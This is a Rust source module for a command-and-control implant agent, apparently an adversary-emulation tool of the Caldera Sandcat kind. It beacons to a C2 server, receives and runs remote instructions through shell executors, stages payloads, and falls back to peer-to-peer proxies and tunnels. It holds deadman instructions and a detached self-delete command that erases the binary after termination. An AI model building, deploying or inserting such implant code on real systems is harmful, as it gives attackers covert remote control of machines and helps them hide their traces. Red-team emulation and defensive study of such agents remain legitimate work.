pub mod comms;
pub mod proxy;
pub mod tunnel;

use indexmap::IndexMap;
use log::{info, warn};
use serde_json::Value;
use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::sync::mpsc;
use tokio::task::JoinHandle;

use crate::contact::tunnel::{Tunnel, TunnelConfig, TunnelRegistry};
use crate::contact::ContactRegistry;
use crate::errors::Result;
use crate::execute::{self, ExecutorRegistry};
use crate::instructions::{ExecutionResult, Instruction};
use crate::payloads;
use crate::profile::Profile;
use crate::proxy::{PeerReceiver, ReceiverRegistry};

use comms::{ChannelRecord, CommsChannel};

pub const BEACON_FAILURE_THRESHOLD: u32 = 3;

/// Initial C2 selection, read from the build configuration and CLI.
#[derive(Debug, Clone, Default)]
pub struct C2Config {
    pub c2_name: String,
    pub c2_key: String,
    pub http_proxy_gateway: String,
    pub tunnel: Option<TunnelConfig>,
}

pub struct AgentOptions {
    pub server: String,
    pub group: String,
    pub paw: String,
    pub initial_delay: u64,
    pub origin_link_id: i64,
    pub enable_receivers: bool,
    pub deadman_enabled: bool,
    /// Disabled by tests; the binary always self-deletes at termination.
    pub self_delete: bool,
    pub c2: C2Config,
    /// Seed pool of peer receivers, protocol -> addresses, in the order the
    /// build baked them in.
    pub peer_seed: IndexMap<String, Vec<String>>,
}

impl Default for AgentOptions {
    fn default() -> Self {
        Self {
            server: String::new(),
            group: "red".to_string(),
            paw: String::new(),
            initial_delay: 0,
            origin_link_id: 0,
            enable_receivers: false,
            deadman_enabled: true,
            self_delete: true,
            c2: C2Config::default(),
            peer_seed: IndexMap::new(),
        }
    }
}

/// Owns the profile, the channel cache, the peer pools, and every local
/// receiver. All mutation funnels through here; receivers only see state
/// through the fan-out mutators.
pub struct Agent {
    pub(crate) profile: Profile,
    initial_delay: u64,
    self_delete: bool,
    pub(crate) c2_config: C2Config,

    pub(crate) contacts: ContactRegistry,
    pub(crate) tunnels: TunnelRegistry,
    executors: Arc<ExecutorRegistry>,
    receiver_registry: ReceiverRegistry,

    // Comms channel manager state.
    pub(crate) current_channel: Option<CommsChannel>,
    pub(crate) validated_channels: HashMap<String, CommsChannel>,
    pub(crate) successful_channels: Vec<ChannelRecord>,
    pub(crate) first_successful: Option<ChannelRecord>,
    pub(crate) failed_beacon_counter: u32,

    // Live local receivers.
    enable_receivers: bool,
    pub(crate) local_receivers: Vec<Arc<dyn PeerReceiver>>,
    pub(crate) local_receiver_addresses: HashMap<String, Vec<String>>,
    receiver_handles: Vec<JoinHandle<()>>,
    barrier_rx: Option<mpsc::Receiver<()>>,

    // Peer pools; every endpoint lives in exactly one of the two.
    pub(crate) available_peer_receivers: IndexMap<String, Vec<String>>,
    pub(crate) exhausted_peer_receivers: IndexMap<String, Vec<String>>,

    pub(crate) tunnel: Option<Arc<dyn Tunnel>>,
    pub(crate) using_tunnel: bool,

    pub(crate) deadman_instructions: Vec<Instruction>,

    // Watchdog bookkeeping; a zero or negative watchdog never trips.
    pub(crate) watchdog: i64,
    pub(crate) checkin: Instant,
}

impl Agent {
    pub fn new(
        options: AgentOptions,
        contacts: ContactRegistry,
        tunnels: TunnelRegistry,
        executors: ExecutorRegistry,
        receiver_registry: ReceiverRegistry,
    ) -> Result<Self> {
        let profile = Profile::collect(
            options.server,
            options.group,
            options.paw,
            options.origin_link_id,
            options.deadman_enabled,
            executors.names(),
            contacts.names(),
        )?;

        Ok(Self {
            profile,
            initial_delay: options.initial_delay,
            self_delete: options.self_delete,
            c2_config: options.c2,
            contacts,
            tunnels,
            executors: Arc::new(executors),
            receiver_registry,
            current_channel: None,
            validated_channels: HashMap::new(),
            successful_channels: Vec::new(),
            first_successful: None,
            failed_beacon_counter: 0,
            enable_receivers: options.enable_receivers,
            local_receivers: Vec::new(),
            local_receiver_addresses: HashMap::new(),
            receiver_handles: Vec::new(),
            barrier_rx: None,
            available_peer_receivers: options.peer_seed,
            exhausted_peer_receivers: IndexMap::new(),
            tunnel: None,
            using_tunnel: false,
            deadman_instructions: Vec::new(),
            watchdog: 0,
            checkin: Instant::now(),
        })
    }

    /// Channel setup, receivers, tunnel. Fatal only when neither the
    /// configured channel nor any peer can be reached.
    pub async fn initialize(&mut self) -> Result<()> {
        if let Err(e) = self.set_initial_comms_channel().await {
            warn!("Could not set initial communication channel: {}", e);
            warn!("Falling back to peer-to-peer proxy mode");
            self.switch_to_first_available_peer().await?;
        }

        if self.enable_receivers {
            self.activate_local_receivers().await;
        }

        if let Some(tunnel_config) = self.c2_config.tunnel.clone() {
            if let Err(e) = self.start_tunnel(&tunnel_config).await {
                warn!("Continuing without tunnel: {}", e);
            }
        }
        Ok(())
    }

    pub fn initial_delay(&self) -> u64 {
        self.initial_delay
    }

    pub async fn sleep(&self, seconds: u64) {
        if seconds > 0 {
            tokio::time::sleep(Duration::from_secs(seconds)).await;
        }
    }

    pub fn watchdog_ok(&self) -> bool {
        self.watchdog <= 0 || self.checkin.elapsed().as_secs() <= self.watchdog as u64
    }

    /// One beacon round-trip with the current contact.
    pub async fn beacon(&self) -> Option<Vec<u8>> {
        let contact = self.current_contact()?;
        contact.get_beacon_bytes(&self.profile.full()).await
    }

    pub async fn handle_successful_beacon(&mut self, paw: &str, watchdog: i64) {
        if self.profile.paw.is_empty() && !paw.is_empty() {
            self.adopt_paw(paw).await;
        }
        self.checkin = Instant::now();
        self.watchdog = watchdog;
        self.failed_beacon_counter = 0;
        self.mark_current_successful();
    }

    async fn adopt_paw(&mut self, paw: &str) {
        self.profile.set_paw(paw);
        for receiver in &self.local_receivers {
            receiver.update_agent_paw(paw).await;
        }
    }

    pub async fn stage_instruction_payloads(&self, names: &[String]) -> Vec<String> {
        let Some(contact) = self.current_contact() else {
            return Vec::new();
        };
        payloads::stage_payloads(&contact, &self.profile.trimmed(), names).await
    }

    /// Executes concurrently: the beacon loop moves on to the instruction's
    /// sleep while the command runs. Results go back in completion order.
    pub fn dispatch_instruction(
        &self,
        instruction: Instruction,
        staged: Vec<String>,
    ) -> JoinHandle<()> {
        let contact = self.current_contact();
        let executors = self.executors.clone();
        let trimmed = self.profile.trimmed();
        tokio::spawn(async move {
            let result = execute_instruction(&executors, &instruction, &staged).await;
            if let Some(contact) = contact {
                contact.send_execution_results(&trimmed, &result).await;
            }
            payloads::remove_staged(&staged).await;
        })
    }

    pub fn store_deadman_instruction(&mut self, instruction: Instruction) {
        info!("Storing deadman instruction {}", instruction.id);
        self.deadman_instructions.push(instruction);
    }

    pub fn executors(&self) -> Arc<ExecutorRegistry> {
        self.executors.clone()
    }

    /// Shutdown: receivers first (bounded joins), then deadman instructions
    /// in stored order with results never submitted, then the delayed
    /// self-delete.
    pub async fn terminate(&mut self) {
        self.terminate_local_receivers().await;
        self.run_deadman_instructions().await;
        if self.self_delete {
            schedule_self_delete(&self.profile.location);
        }
        info!("Terminating agent... goodbye.");
    }

    async fn run_deadman_instructions(&mut self) {
        let instructions: Vec<Instruction> = self.deadman_instructions.drain(..).collect();
        for instruction in instructions {
            info!("Running deadman instruction {}", instruction.id);
            let staged = self.stage_instruction_payloads(&instruction.payloads).await;
            let _ = execute_instruction(&self.executors, &instruction, &staged).await;
            payloads::remove_staged(&staged).await;
        }
    }

    pub(crate) fn set_barrier_receiver(&mut self, rx: mpsc::Receiver<()>) {
        self.barrier_rx = Some(rx);
    }

    pub(crate) fn take_barrier_receiver(&mut self) -> Option<mpsc::Receiver<()>> {
        self.barrier_rx.take()
    }

    pub(crate) fn push_receiver_handle(&mut self, handle: JoinHandle<()>) {
        self.receiver_handles.push(handle);
    }

    pub(crate) fn drain_receiver_handles(&mut self) -> Vec<JoinHandle<()>> {
        self.receiver_handles.drain(..).collect()
    }

    pub fn display(&self) {
        info!("server={}", self.profile.server);
        info!("group={}", self.profile.group);
        info!("privilege={}", self.profile.privilege);
        info!("allow p2p receivers={}", self.enable_receivers);
        info!("beacon channel={}", self.current_contact_name());
        for (protocol, addresses) in &self.local_receiver_addresses {
            for address in addresses {
                info!("{} proxy receiver available at {}", protocol, address);
            }
        }
    }

    pub(crate) fn receiver_registry(&self) -> ReceiverRegistry {
        self.receiver_registry.clone()
    }

    pub fn trimmed_profile(&self) -> Value {
        self.profile.trimmed()
    }

    pub fn paw(&self) -> &str {
        &self.profile.paw
    }
}

async fn execute_instruction(
    executors: &ExecutorRegistry,
    instruction: &Instruction,
    staged: &[String],
) -> ExecutionResult {
    let (output, status, pid) = execute::run_command(executors, instruction, staged).await;
    ExecutionResult {
        id: instruction.id.clone(),
        output,
        status,
        pid,
    }
}

// Detached child that outlives the agent: waits five seconds, then removes
// the executable.
fn schedule_self_delete(location: &str) {
    #[cfg(unix)]
    let spawned = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("sleep 5; rm -f \"{}\"", location))
        .spawn();
    #[cfg(windows)]
    let spawned = std::process::Command::new("cmd")
        .arg("/C")
        .arg(format!(
            "ping -n 6 127.0.0.1 >nul & del /f /q \"{}\"",
            location
        ))
        .spawn();
    #[cfg(all(not(unix), not(windows)))]
    let spawned: std::io::Result<std::process::Child> = Err(std::io::Error::new(
        std::io::ErrorKind::Unsupported,
        "no shell available",
    ));

    match spawned {
        Ok(_) => info!("Scheduled removal of {}", location),
        Err(e) => warn!("Could not schedule removal of {}: {}", location, e),
    }
}
